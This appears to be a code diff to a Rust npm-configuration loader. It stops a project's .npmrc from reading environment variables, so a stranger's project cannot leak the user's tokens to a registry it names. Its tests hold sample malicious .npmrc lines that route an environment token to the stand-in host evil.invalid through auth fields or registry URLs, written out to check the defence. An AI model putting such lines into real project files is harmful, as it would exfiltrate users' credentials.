@@ -2,7 +2,7 @@
 //!
 //! Texts and environment values come in as an [`NpmrcInput`]; nothing here reads a file or the environment. Precedence is
 //! npm's: mcp.toml's own `[registries]`, then the environment, then the project's, the user's and the global `.npmrc`, key by
-//! key. Credentials are bound to a host and path ("nerf dart") and go nowhere else.
+//! key. Unlike npm, the project's file gets no variables of the environment. Credentials are bound to a host and path ("nerf dart") and go nowhere else.
 use std::{
     collections::BTreeMap,
     ffi::{OsStr, OsString},
@@ -23,9 +23,12 @@ const MAX_NPMRC: usize = 1 << 20;
 /// Everything that decides registries and credentials, already read by the caller.
 #[derive(Clone, Default)]
 pub struct NpmrcInput {
-    /// `.npmrc` files as (name to show in errors, text): project, user, global; the first wins.
+    /// The project's `.npmrc` as (name to show in errors, text). It wins over `files`, and may not read the environment: the
+    /// project may be a stranger's, and npm would send any variable that it names to any host that it names.
+    pub project: Option<(String, String)>,
+    /// The user's own `.npmrc` files as (name to show in errors, text): user, global; the first wins.
     pub files: Vec<(String, String)>,
-    /// Environment: `NPM_CONFIG_*` in any case, and the variables that `${VAR}` in a file may name.
+    /// Environment: `NPM_CONFIG_*` in any case, and the variables that `${VAR}` in one of `files` may name.
     pub env: BTreeMap<String, String>,
     /// The npm registry of mcp.toml's `[registries]`; it replaces the default registry, not the ones of scopes.
     pub configured: Option<SafeUrl>,
@@ -34,7 +37,7 @@ pub struct NpmrcInput {
 impl fmt::Debug for NpmrcInput {
     /// Names only: texts and environment hold tokens.
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let files: Vec<&str> = self.files.iter().map(|(name, _)| name.as_str()).collect();
+        let files: Vec<&str> = self.project.iter().chain(&self.files).map(|(name, _)| name.as_str()).collect();
         let env: Vec<&str> = self.env.keys().map(String::as_str).collect();
         f.debug_struct("NpmrcInput")
             .field("files", &files)
@@ -58,6 +61,16 @@ pub enum NpmConfigError {
     TooLong {
         /// The name to show.
         file: String,
+    },
+    /// The project's file wants a variable of the user's environment inside an address.
+    #[error(
+        "{file} puts an environment variable into `{key}`; a project may not read your environment: write the address out, or move the line to your own .npmrc"
+    )]
+    Variable {
+        /// The name to show.
+        file: String,
+        /// The key that it would set.
+        key: String,
     },
     /// A registry address is not an http or https URL.
     #[error("the npm registry {of} is not an http or https URL; correct `{key}` in .npmrc or the environment")]
@@ -101,13 +114,11 @@ impl NpmConfig {
     pub fn load(input: NpmrcInput) -> Result<Self, NpmConfigError> {
         let env = Env(&input.env);
         let mut merged = from_environment(&input.env);
+        if let Some((file, text)) = &input.project {
+            add_lower_layer(&mut merged, without_variables(parse(file, text, &Env(&BTreeMap::new()))?, file)?);
+        }
         for (file, text) in &input.files {
-            let shown = || Untrusted::new(file.as_str()).excerpt(200);
-            if text.len() > MAX_NPMRC {
-                return Err(NpmConfigError::TooLong { file: shown() });
-            }
-            let layer = NpmRc::parse(&env, text).map_err(|_| NpmConfigError::Syntax { file: shown() })?;
-            add_lower_layer(&mut merged, layer);
+            add_lower_layer(&mut merged, parse(file, text, &env)?);
         }
         if let Some(configured) = &input.configured {
             merged.registry = Some(configured.expose().to_string());
@@ -160,6 +171,40 @@ impl NpmConfig {
         };
         Some((SafeUrl::from(url), credentials))
     }
+}
+
+fn parse(file: &str, text: &str, env: &Env<'_>) -> Result<NpmRc, NpmConfigError> {
+    let shown = || Untrusted::new(file).excerpt(200);
+    if text.len() > MAX_NPMRC {
+        return Err(NpmConfigError::TooLong { file: shown() });
+    }
+    NpmRc::parse(env, text).map_err(|_| NpmConfigError::Syntax { file: shown() })
+}
+
+/// Takes out of the project's file what asks for variables: credentials are dropped, since most runs do not need them and the
+/// user can give them in an own `.npmrc`; an address is refused, since another registry than the one meant would answer.
+fn without_variables(mut rc: NpmRc, file: &str) -> Result<NpmRc, NpmConfigError> {
+    let asks = |text: &str| text.contains("${");
+    let refuse = |key: String| NpmConfigError::Variable { file: Untrusted::new(file).excerpt(200), key };
+    if rc.registry.as_deref().is_some_and(asks) {
+        return Err(refuse("registry".to_owned()));
+    }
+    if let Some((scope, _)) = rc.scope_registries.iter().find(|(_, url)| asks(url)) {
+        return Err(refuse(format!("@{}:registry", Untrusted::new(scope.as_str()).excerpt(60))));
+    }
+    for (host, config) in &mut rc.registry_configs {
+        let config = Arc::make_mut(config);
+        for field in [&mut config.auth_token, &mut config.auth, &mut config.username, &mut config.password] {
+            if field.as_deref().is_some_and(asks) {
+                *field = None;
+                tracing::warn!(
+                    host = %Untrusted::new(host.as_str()),
+                    "the project's .npmrc may not read the environment; its credentials are not used"
+                );
+            }
+        }
+    }
+    Ok(rc)
 }
 
 fn registry_error(scope: Option<&str>) -> NpmConfigError {
@@ -289,6 +334,7 @@ mod tests {
 
     fn load(files: &[&str], env: &[(&str, &str)]) -> NpmConfig {
         NpmConfig::load(NpmrcInput {
+            project: None,
             files: files.iter().map(|text| (".npmrc".to_owned(), (*text).to_owned())).collect(),
             env: env.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect(),
             configured: None,
@@ -326,6 +372,41 @@ mod tests {
         for key in ["NPM_CONFIG_REGISTRY", "npm_config_registry"] {
             let config = load(&files, &[(key, "https://env.invalid")]);
             assert_eq!(registry(&config, "zod").0, "https://env.invalid/");
+        }
+    }
+
+    #[test]
+    fn a_project_may_name_registries_and_not_read_the_environment() {
+        let load = |project: &str| {
+            NpmConfig::load(NpmrcInput {
+                project: Some(("project/.npmrc".to_owned(), project.to_owned())),
+                files: vec![(".npmrc".to_owned(), "//own.invalid/:_authToken=${TOKEN}".to_owned())],
+                env: BTreeMap::from([("TOKEN".to_owned(), "s3cret".to_owned())]),
+                configured: None,
+            })
+        };
+        // The user's own file may read it, for the host that it names.
+        let config = load("registry=https://own.invalid/").expect("configuration");
+        assert_eq!(registry(&config, "x").1, Some("Bearer s3cret".to_owned()));
+        // The project's may not, in any field; what it writes out is its own to give away.
+        for text in [
+            "//evil.invalid/:_authToken=${TOKEN}",
+            "//evil.invalid/:_auth=a${TOKEN}",
+            "//evil.invalid/:username=u\n//evil.invalid/:_password=${TOKEN}",
+            "//evil.invalid/:username=${TOKEN}\n//evil.invalid/:_password=cA==",
+        ] {
+            let config = load(&format!("registry=https://evil.invalid/\n{text}")).expect("configuration");
+            assert_eq!(registry(&config, "x"), ("https://evil.invalid/".to_owned(), None), "{text}");
+        }
+        let config = load("registry=https://evil.invalid/\n//evil.invalid/:_authToken=own").expect("configuration");
+        assert_eq!(registry(&config, "x").1, Some("Bearer own".to_owned()));
+        for (text, key) in [
+            ("registry=https://evil.invalid/${TOKEN}/", "`registry`"),
+            ("@s:registry=https://${TOKEN}.evil.invalid/", "`@s:registry`"),
+            ("registry=https://u:${TOKEN}@evil.invalid/", "`registry`"),
+        ] {
+            let error = load(text).expect_err(text).to_string();
+            assert!(error.contains(key) && error.contains("project/.npmrc") && !error.contains("s3cret"), "{error}");
         }
     }
 
@@ -385,6 +466,7 @@ mod tests {
     #[test]
     fn mcp_toml_replaces_the_default_registry_only() {
         let config = NpmConfig::load(NpmrcInput {
+            project: None,
             files: vec![("f".to_owned(), "registry=https://a.invalid/\n@s:registry=https://s.invalid/".to_owned())],
             env: [("NPM_CONFIG_REGISTRY".to_owned(), "https://b.invalid/".to_owned())].into_iter().collect(),
             configured: Some("https://c.invalid/".parse().expect("url")),
